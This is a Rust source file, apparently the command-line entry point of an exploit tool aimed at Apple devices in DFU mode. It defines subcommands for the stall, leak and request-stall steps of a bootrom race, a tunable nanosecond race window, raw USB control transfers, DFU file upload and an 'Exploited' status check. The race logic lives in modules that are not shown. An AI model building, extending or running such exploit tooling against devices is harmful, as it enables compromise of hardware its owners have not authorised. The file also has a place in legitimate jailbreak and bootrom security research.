use std::{
    fs, num::NonZeroU32, path::PathBuf, process::ExitCode, time::Duration,
};

use clap::{Args, Parser, Subcommand};
use clap_num::maybe_hex;
use log::error;

use ctrl::*;
use dfu_race::{
    ControlRequest, DEFAULT_STALL_WINDOW, DfuSession, RaceConfig, SpinWait,
    find_dfu_targets,
};
use error::CliError;
use list::*;
use send::*;

mod ctrl;
mod error;
mod list;
mod send;

const APPLE_VENDOR_ID: u16 = 0x05ac;
const DFU_PRODUCT_ID: u16 = 0x1227;

#[derive(Parser)]
#[command(version, about, long_about = None)]
struct Cli {
    #[command(subcommand)]
    command: Option<Commands>,
}

#[derive(Args, Clone, Copy)]
struct DeviceArgs {
    /// vendor ID (ex: "05ac")
    #[clap(short, long, value_parser=hex_u16, default_value = "05ac")]
    vendor: u16,
    /// product ID (ex: "1227")
    #[clap(short, long, value_parser=hex_u16, default_value = "1227")]
    product: u16,
}

#[derive(Args, Clone, Copy)]
struct RaceArgs {
    /// time the stall transfer is held before cancelling, in nanoseconds
    #[clap(long, default_value_t = DEFAULT_STALL_WINDOW.as_nanos() as u64)]
    window_ns: u64,
    /// spin-loop hints between two clock reads while holding a transfer
    #[clap(long, default_value = "1")]
    spin: NonZeroU32,
}

impl RaceArgs {
    fn config(&self) -> RaceConfig {
        RaceConfig {
            stall_window: Duration::from_nanos(self.window_ns),
            spin: SpinWait::new(self.spin),
        }
    }
}

#[derive(Subcommand)]
enum Commands {
    /// list devices
    List {
        /// vendor ID (ex: "05ac")
        #[clap(short, long, value_parser=hex_u16)]
        vendor: Option<u16>,
        /// product ID (ex: "1227")
        #[clap(short, long, value_parser=hex_u16)]
        product: Option<u16>,
    },
    /// show serial number fields of the device
    Info {
        #[command(flatten)]
        device: DeviceArgs,
    },
    /// submit the stall request and cancel it after the race window
    Stall {
        #[command(flatten)]
        device: DeviceArgs,
        #[command(flatten)]
        race: RaceArgs,
    },
    /// descriptor request of 0xC1 bytes, result ignored
    NoLeak {
        #[command(flatten)]
        device: DeviceArgs,
    },
    /// clear halt on endpoint 0x80, result ignored
    ReqStall {
        #[command(flatten)]
        device: DeviceArgs,
    },
    /// descriptor request of 0x40 bytes, result ignored
    ReqLeak {
        #[command(flatten)]
        device: DeviceArgs,
    },
    /// issue one synchronous control transfer
    Ctrl {
        /// bmRequestType (ex: 0x80)
        #[clap(value_parser=maybe_hex::<u8>)]
        request_type: u8,
        /// bRequest (ex: 6)
        #[clap(value_parser=maybe_hex::<u8>)]
        request: u8,
        /// wValue (ex: 0x0304)
        #[clap(value_parser=maybe_hex::<u16>)]
        value: u16,
        /// wIndex (ex: 0x040A)
        #[clap(value_parser=maybe_hex::<u16>)]
        index: u16,
        /// wLength for IN requests or when no data is given
        #[clap(short, long, value_parser=maybe_hex::<u16>, default_value = "0")]
        length: u16,
        /// hex encoded data stage for OUT requests
        #[clap(short, long)]
        data: Option<String>,
        /// pass no buffer to the host stack
        #[clap(long)]
        no_buffer: bool,
        /// timeout in milliseconds
        #[clap(short, long, default_value = "1000")]
        timeout_ms: u64,
        #[command(flatten)]
        device: DeviceArgs,
    },
    /// send a file with DFU download requests
    Send {
        /// file to send
        file: PathBuf,
        #[command(flatten)]
        device: DeviceArgs,
    },
    /// reset the USB port of the device
    Reset {
        #[command(flatten)]
        device: DeviceArgs,
    },
}

impl Default for Commands {
    fn default() -> Self {
        Commands::List {
            vendor: Some(APPLE_VENDOR_ID),
            product: Some(DFU_PRODUCT_ID),
        }
    }
}

fn hex_u16(s: &str) -> Result<u16, String> {
    <u16>::from_str_radix(s, 16).map_err(|e| format!("{e}"))
}

fn main() -> ExitCode {
    let cli = Cli::parse();
    env_logger::init();

    if let Err(err) = run(cli.command.unwrap_or_default()) {
        if err.is_fatal() {
            error!("Race aborted, device state is unknown");
        }
        eprintln!("Error: {err}");
        ExitCode::FAILURE
    } else {
        ExitCode::SUCCESS
    }
}

fn run(command: Commands) -> Result<(), CliError> {
    match command {
        Commands::List { vendor, product } => list_dfu_devices(vendor, product),
        Commands::Info { device } => {
            with_session(device, RaceConfig::default(), show_info)
        }
        Commands::Stall { device, race } => {
            with_session(device, race.config(), |session| {
                let state = session.stall()?;
                println!("Stall transfer cancelled ({state:?})");
                Ok(())
            })
        }
        Commands::NoLeak { device } => probe(device, DfuSession::no_leak),
        Commands::ReqStall { device } => {
            probe(device, DfuSession::usb_req_stall)
        }
        Commands::ReqLeak { device } => probe(device, DfuSession::usb_req_leak),
        Commands::Ctrl {
            request_type,
            request,
            value,
            index,
            length,
            data,
            no_buffer,
            timeout_ms,
            device,
        } => {
            let args = CtrlArgs {
                request: ControlRequest::new(
                    request_type,
                    request,
                    value,
                    index,
                ),
                length,
                data,
                no_buffer,
                timeout: Duration::from_millis(timeout_ms),
            };
            with_session(device, RaceConfig::default(), |session| {
                control_transfer(session, args)
            })
        }
        Commands::Send { file, device } => {
            let data = fs::read(file)?;
            with_session(device, RaceConfig::default(), |session| {
                send_file(session, &data)
            })
        }
        Commands::Reset { device } => {
            with_session(device, RaceConfig::default(), |session| {
                println!("Resetting device...");
                Ok(session.reset()?)
            })
        }
    }
}

fn get_dfu_session(
    device: DeviceArgs,
    config: RaceConfig,
) -> Result<DfuSession, CliError> {
    let targets = find_dfu_targets(Some(device.vendor), Some(device.product))?;
    if targets.len() > 1 {
        return Err(CliError::ManyDFUDevices);
    }
    let target = targets.first().ok_or(CliError::NoDFUDevice)?;
    Ok(target.open(config)?)
}

fn with_session<F>(
    device: DeviceArgs,
    config: RaceConfig,
    f: F,
) -> Result<(), CliError>
where
    F: FnOnce(&mut DfuSession) -> Result<(), CliError>,
{
    let mut session = get_dfu_session(device, config)?;
    let res = f(&mut session);
    session.release();
    res
}

fn probe(device: DeviceArgs, f: fn(&DfuSession)) -> Result<(), CliError> {
    with_session(device, RaceConfig::default(), |session| {
        f(session);
        Ok(())
    })
}

fn show_info(session: &mut DfuSession) -> Result<(), CliError> {
    println!(
        "Serial Number: {}",
        session.serial_number().unwrap_or("<unavailable>")
    );
    println!("Exploited: {}", session.is_exploited());
    if let Some(info) = session.serial_info() {
        print_serial("  ", &info);
    }
    Ok(())
}
